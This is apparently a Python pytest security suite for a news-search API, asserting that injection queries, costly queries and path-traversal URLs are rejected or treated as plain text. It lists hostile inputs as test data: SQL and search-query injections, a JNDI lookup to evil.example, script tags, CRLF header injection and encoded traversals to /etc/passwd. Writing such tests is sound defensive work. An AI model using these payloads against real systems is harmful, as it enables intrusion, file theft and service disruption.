"""Queries and addresses that were never meant well: text, or a problem, and nothing else."""

import shutil
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from services.index.tantivy import TantivyIndex
from services.web.assets import FOLDER
from tests.support.api import Api, newsroom_index, read_problem
from tests.support.payloads import ODD, SCRIPTS
from tests.unit.test_exports import hostile_article

SEARCHES = ("/api/v1/articles", "/api/v1/claims", "/api/v1/disagreements", "/api/v1/explain",
            "/articles.jsonl", "/claims.csv", "/feed.atom", "/feed.json")  # fmt: skip
INJECTIONS = (
    'source:"x" OR _id:*',
    '{"script":{"source":"1"}}',
    '{"query":{"match_all":{}}}',
    "__proto__:x",
    "constructor:x",
    "_source:body",
    "_id:*",
    "body:/.*/",
    "record:x",
    "' OR 1=1--",
    "'; DROP TABLE articles;--",
    "*:*",
    "*",
    "/.*/",
    "[a TO z]",
    "usd:[1 TO *]",
    "chips AND (usd:>1 || _exists_:body)",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "chips\x00chips",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "a\r\nset-cookie: x=1",
)
COSTLY = (
    "(" * 20_000,
    "a " * 20_000,
    "NOT " * 15_000,
    "a*",
    "*a",
    "usd:^1e400",
    '"a b"~99999999',
    '"' * 1999,
    "-" * 1999,
    "claim:any(" * 199,
    "mood:a<-9e999",
    "after:99999999d",
    "a" * 2000,
)


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    with newsroom_index(tmp_path_factory.mktemp("attacks")) as index:
        yield Api(index)


@pytest.mark.parametrize("query", INJECTIONS)
def test_an_injection_is_text_or_a_problem(api: Api, query: str) -> None:
    everything = api.get("/api/v1/articles").json()["total"]
    for address in SEARCHES:
        answer = api.get(address, params={"q": query})
        assert answer.status_code in (200, 400), address
        assert "set-cookie" not in answer.headers
        if answer.status_code == 400:
            assert read_problem(answer)["type"] == "/api#query"
    answer = api.get("/api/v1/articles", params={"q": query})
    assert answer.status_code == 400 or answer.json()["total"] < everything


@pytest.mark.parametrize("query", COSTLY, ids=lambda query: query[:12])
def test_a_costly_query_is_refused_or_answered_at_once(api: Api, query: str) -> None:
    began = time.monotonic()
    answer = api.get("/api/v1/articles", params={"q": query})
    assert time.monotonic() - began < 2
    assert answer.status_code in (200, 400)
    assert len(answer.content) < 100_000


@pytest.mark.parametrize("text", [*SCRIPTS, *ODD])
def test_hostile_text_is_json_that_no_browser_takes_for_a_page(tmp_path: Path, text: str) -> None:
    with TantivyIndex(tmp_path / "index", write=True) as index:
        index.put([hostile_article(text)])
        api = Api(index)
        for address in SEARCHES:
            answer = api.get(address, params={"q": text})
            assert not answer.headers["content-type"].startswith("text/html")
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert answer.status_code in (200, 400)
        for name in ("entities", "stories", "articles"):
            answer = api.get(f"/api/v1/{name}/x", params={text: text})
            assert answer.status_code in (404, 422)
            read_problem(answer)


@pytest.mark.parametrize(
    "path",
    [
        "/static/..%2fapp.py",
        "/static/..%2f..%2f..%2fetc%2fpasswd",
        "/static/%2e%2e/app.py",
        "/static/....//app.py",
        "/static//etc/passwd",
        "/static/%2fetc%2fpasswd",
        "/static/style.css%00.txt",
        "/static/..\\app.py",
        "/static/..%5capp.py",
        "/static/%c0%ae%c0%ae/app.py",
        "/static/templates/base.html",
        "/static/link",
        "/api/v1/../../etc/passwd",
        "/api/v1/articles/..%2f..%2fetc%2fpasswd",
        "/articles.csv/../../etc/passwd",
        "/..%2farticles.csv",
        "/feed.atom%2f..%2f..",
    ],
)
def test_a_path_leads_nowhere_else(api: Api, path: str) -> None:
    """Row 78."""
    answer = api.get(path)
    assert answer.status_code == 404, answer.text
    assert "root:" not in answer.text
    assert "create_app" not in answer.text


def test_a_name_in_a_query_is_no_path(api: Api) -> None:
    answer = api.get("/articles.csv", params={"q": "../../../etc/passwd"})
    assert answer.headers["content-disposition"] == (
        'attachment; filename="beatwire-articles-etc-passwd.csv"'
    )


def test_a_link_that_appears_among_the_static_files_is_not_followed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Files are read at the start, and from then on no path of a request meets the disk."""
    folder = tmp_path / "static"
    shutil.copytree(FOLDER, folder)
    monkeypatch.setattr("services.web.assets.FOLDER", folder)
    with TantivyIndex(tmp_path / "index") as index:
        api = Api(index)
        (folder / "link").symlink_to("/etc/passwd")
        assert api.get("/static/link").status_code == 404
        assert api.get("/static/style.css").status_code == 200
